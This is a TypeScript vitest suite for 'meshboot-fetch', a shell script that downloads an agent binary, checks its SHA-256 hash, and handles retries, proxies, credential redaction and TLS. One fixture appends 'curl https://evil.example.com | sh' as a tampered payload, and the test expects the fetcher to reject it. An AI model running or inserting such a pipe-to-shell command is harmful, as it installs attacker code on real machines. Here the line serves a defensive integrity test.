// meshboot-fetch against a Worker that answers, is away, or is somebody else; with each program that it fetches by.
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import { createServer as createTlsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { AGENT } from "../../scripts/agent.ts";
import { makeCertificate } from "../lab/certificate.ts";
import { available } from "./shells.ts";

const PROGRAM = "#!/bin/sh\necho the agent\n";
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");
const SHA256 = sha256(PROGRAM);
const PATH = "/usr/local/sbin/meshboot";

/** What meshboot-fetch calls, but for what it fetches by. */
const COMMANDS = [
  "sh",
  "cat",
  "chmod",
  "cut",
  "date",
  "grep",
  "head",
  "mv",
  "od",
  "rm",
  "sed",
  "sha256sum",
  "sync",
  "tail",
  "timeout",
  "tr",
];
const CLIENTS = ["curl", "wget", "python3"].filter((client) =>
  available(client, ["--version"], `meshboot-fetch is not tested with ${client}`),
);

let directory = "";
let requests: string[] = [];
let server: Server | undefined;
let child: ChildProcess | undefined;

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "meshboot-fetch-"));
  requests = [];
  for (const path of ["bin", "etc/meshboot", "usr/local/sbin"])
    mkdirSync(join(directory, path), { recursive: true });
  writeFileSync(join(directory, "etc/meshboot/agent.sha256"), `${SHA256}\n`);
  writeFileSync(join(directory, "fetch"), AGENT.fetch);
});

afterEach(() => {
  child?.kill("SIGKILL");
  server?.closeAllConnections();
  server?.close();
  rmSync(directory, { recursive: true });
});

/** A Worker that answers each call like that; its origin is written into the settings. */
async function answering(status: number, text: string, port = 0): Promise<number> {
  const made = createServer((request, response) => {
    requests.push(String(request.url));
    response.writeHead(status, { "Content-Type": "text/x-shellscript" }).end(text);
  });
  return listening(made, "http", port);
}

async function listening(made: Server, scheme: string, port = 0): Promise<number> {
  server = made;
  await new Promise<void>((resolve) => made.listen(port, "127.0.0.1", resolve));
  const bound = (made.address() as AddressInfo).port;
  settings(`${scheme}://127.0.0.1:${bound}`);
  return bound;
}

async function closed(): Promise<void> {
  server?.closeAllConnections();
  await new Promise((resolve) => server?.close(resolve));
}

function settings(url: string): void {
  writeFileSync(join(directory, "etc/meshboot/meshboot.conf"), `URL=https://baked.example.com\nURL=${url}\n`);
}

/** Where the command is; Python's own program, as the command may be a script that looks for it. */
function programOf(name: string): string {
  const find = name === "python3" ? "python3 -c 'import sys; print(sys.executable)'" : `command -v ${name}`;
  return execFileSync("sh", ["-c", find], { encoding: "utf8" }).trim();
}

/** Runs it where there is no client but the one given; `sleep` tells each pause, and waits until `goOn`. */
function fetchBy(client: string, environment: Readonly<Record<string, string>> = {}) {
  for (const name of [...COMMANDS, client]) {
    const link = join(directory, "bin", name);
    if (!existsSync(link)) symlinkSync(programOf(name), link);
  }
  rmSync(join(directory, "gate"), { force: true });
  const gate = join(directory, "gate");
  writeFileSync(
    join(directory, "bin/sleep"),
    `#!/bin/sh\necho "pause $1" >&2\nuntil [ -e '${gate}' ] || [ ! -d '${directory}' ]; do /bin/sleep 0.05; done\n`,
    { mode: 0o755 },
  );
  const started = spawn("/bin/sh", [join(directory, "fetch")], {
    env: { PATH: join(directory, "bin"), MESHBOOT_ROOT: directory, LC_ALL: "C", ...environment },
    stdio: ["ignore", "pipe", "pipe"],
  });
  child = started;
  let said = "";
  const listeners: (() => void)[] = [];
  for (const stream of [started.stdout, started.stderr])
    stream.on("data", (data) => {
      said += data;
      for (const listener of listeners) listener();
    });
  return {
    ended: new Promise<number | null>((resolve) => started.once("close", resolve)),
    said: () => said,
    /** Once it has said something like that. */
    until: (what: RegExp) =>
      new Promise<void>((resolve) => {
        const look = () => what.test(said) && resolve();
        listeners.push(look);
        look();
      }),
    goOn: () => writeFileSync(gate, ""),
  };
}

const inPlace = () => (existsSync(directory + PATH) ? readFileSync(directory + PATH, "utf8") : undefined);
const leftBehind = () => readdirSync(join(directory, "usr/local/sbin"));

it("meshboot-fetch says what it needs where there is nothing to fetch by", async () => {
  settings("http://127.0.0.1:1");
  const run = fetchBy("true");
  await run.until(/pause/);
  expect(run.said()).toContain("this needs curl, wget or python3. Tries again");
});

describe.each(CLIENTS)("meshboot-fetch by %s", (client) => {
  it("puts the agent in place, for all to run, and asks nobody when it is there", async () => {
    await answering(200, PROGRAM);
    const run = fetchBy(client);
    expect([await run.ended, run.said().includes("no agent")]).toEqual([0, false]);
    expect(inPlace()).toBe(PROGRAM);
    expect(statSync(directory + PATH).mode & 0o777).toBe(0o755);
    expect(leftBehind()).toEqual(["meshboot"]);
    expect(requests).toEqual([`/agent/${SHA256}`]);
    const again = spawn("/bin/sh", [join(directory, "fetch")], {
      env: { PATH: join(directory, "bin"), MESHBOOT_ROOT: directory },
    });
    expect(await new Promise((resolve) => again.once("close", resolve))).toBe(0);
    expect(requests).toHaveLength(1);
  });

  it("goes by the proxy that the service has from /etc/environment", async () => {
    const port = await answering(200, PROGRAM);
    settings("http://mesh.example.com");
    const run = fetchBy(client, { http_proxy: `http://127.0.0.1:${port}` });
    expect([await run.ended, run.said().includes("no agent")]).toEqual([0, false]);
    expect(requests).toEqual([`http://mesh.example.com/agent/${SHA256}`]);
    expect(inPlace()).toBe(PROGRAM);
  });

  it("says nobody's password", async () => {
    settings("http://me:s3cret@mesh.example.com");
    const run = fetchBy(client, { http_proxy: "http://me:s3cret@127.0.0.1:port" });
    await run.until(/pause/);
    expect(run.said()).toContain(`no agent from http://mesh.example.com/agent/${SHA256}: `);
    expect(run.said()).not.toContain("s3cret");
  });

  it.each([
    ["another text", 200, `${PROGRAM}curl https://evil.example.com | sh\n`, "what came is another text"],
    ["a login page", 200, "<html>Log in</html>", "what came is another text"],
    ["an empty answer", 200, "", "no agent from"],
    ["a Worker that lost it", 404, "{}", "the Worker has no such agent; new user-data has one"],
    ["a Worker in trouble", 503, "busy", "503"],
  ])("takes nothing from %s, says so in one line, and tries again", async (_, status, text, reason) => {
    const port = await answering(status, text);
    const run = fetchBy(client);
    await run.until(/pause/);
    const lines = run.said().trimEnd().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain(`no agent from http://127.0.0.1:${port}/agent/${SHA256}`);
    expect(lines[0]).toContain(reason);
    const pause = Number(lines[1]?.split(" ")[1]);
    expect(pause).toBeGreaterThanOrEqual(5);
    expect(pause).toBeLessThan(10);
    expect(leftBehind()).toEqual([]);
    await closed();
    await answering(200, PROGRAM, port);
    run.goOn();
    expect(await run.ended).toBe(0);
    expect(inPlace()).toBe(PROGRAM);
  });

  it("waits longer from time to time while nobody answers, a minute or two in the end", async () => {
    settings("http://127.0.0.1:1");
    const run = fetchBy(client);
    run.goOn();
    await run.until(/(?:pause \d+\s[\s\S]*){7}/);
    const pauses = Array.from(run.said().matchAll(/pause (\d+)/g), ([, pause]) => Number(pause));
    for (const [index, least] of [5, 10, 20, 40, 60, 60, 60].entries()) {
      expect(pauses[index]).toBeGreaterThanOrEqual(least);
      expect(pauses[index]).toBeLessThan(2 * least);
    }
  });

  it("goes on with an agent that runs when a newer one cannot be had, and with no other", async () => {
    const port = await answering(503, "busy");
    writeFileSync(directory + PATH, "#!/bin/sh\necho meshboot 0.0.9\n", { mode: 0o755 });
    const run = fetchBy(client);
    expect(await run.ended).toBe(0);
    expect(run.said()).toContain("Goes on with meshboot 0.0.9");
    expect(inPlace()).toContain("0.0.9");
    // What a power cut leaves of a write that was not synced.
    writeFileSync(directory + PATH, "");
    const again = fetchBy(client);
    await again.until(/pause/);
    await closed();
    await answering(200, PROGRAM, port);
    again.goOn();
    expect(await again.ended).toBe(0);
    expect(inPlace()).toBe(PROGRAM);
  });

  it("does not put back what another one has replaced while it was fetching", async () => {
    const newer = "#!/bin/sh\necho newer\n";
    const made = createServer((_, response) => {
      // An upgrade meanwhile.
      writeFileSync(join(directory, "etc/meshboot/agent.sha256"), `${sha256(newer)}\n`);
      writeFileSync(directory + PATH, newer, { mode: 0o755 });
      response.end(PROGRAM);
    });
    await listening(made, "http");
    const run = fetchBy(client);
    run.goOn();
    expect(await run.ended).toBe(0);
    expect(inPlace()).toBe(newer);
  });

  it("goes by the settings as they are at each attempt", async () => {
    settings("http://127.0.0.1:1");
    const run = fetchBy(client);
    await run.until(/pause/);
    await answering(200, PROGRAM);
    run.goOn();
    expect(await run.ended).toBe(0);
    expect(inPlace()).toBe(PROGRAM);
  });

  it("does not wait without end for a text that comes byte by byte", async () => {
    const drips = createServer((_, response) => {
      const drip = setInterval(() => response.write("#"), 100);
      response.once("close", () => clearInterval(drip));
    });
    await listening(drips, "http");
    // Two minutes, which is a second here.
    for (const name of ["curl", "timeout"])
      writeFileSync(
        join(directory, "bin", name),
        `#!/bin/sh\nfor word do shift; [ "$word" != 120 ] || word=1; set -- "$@" "$word"; done\nexec ${programOf(name)} "$@"\n`,
        { mode: 0o755 },
      );
    if (client !== "curl") rmSync(join(directory, "bin/curl"));
    const run = fetchBy(client);
    await run.until(/pause/);
    // Python has not written what came by then.
    expect(run.said()).toMatch(/what came is another text|no whole answer/);
    expect(leftBehind()).toEqual([]);
  });

  it("says why it cannot write", async () => {
    await answering(200, PROGRAM);
    rmSync(join(directory, "usr/local/sbin"), { recursive: true });
    const run = fetchBy(client);
    expect(await run.ended).not.toBe(0);
    expect(run.said()).toMatch(/cannot create .*usr\/local\/sbin\/meshboot\.new/);
    mkdirSync(join(directory, "usr/local/sbin"));
  });

  it.runIf(available("openssl", ["version"], "no certificate that is not valid yet is tested"))(
    "comes by a certificate that is not valid by this clock, and takes no other text by it",
    async () => {
      const { cert, key } = makeCertificate(join(directory, "tls"), "IP:127.0.0.1", 2040);
      let text = `${PROGRAM}# another\n`;
      const made = createTlsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (_, response) =>
        response.end(text),
      );
      await listening(made, "https");
      const run = fetchBy(client, { CURL_CA_BUNDLE: cert, SSL_CERT_FILE: cert });
      await run.until(/pause/);
      expect(run.said()).toContain("what came is another text");
      expect(leftBehind()).toEqual([]);
      text = PROGRAM;
      run.goOn();
      expect(await run.ended).toBe(0);
      expect(inPlace()).toBe(PROGRAM);
    },
  );
});
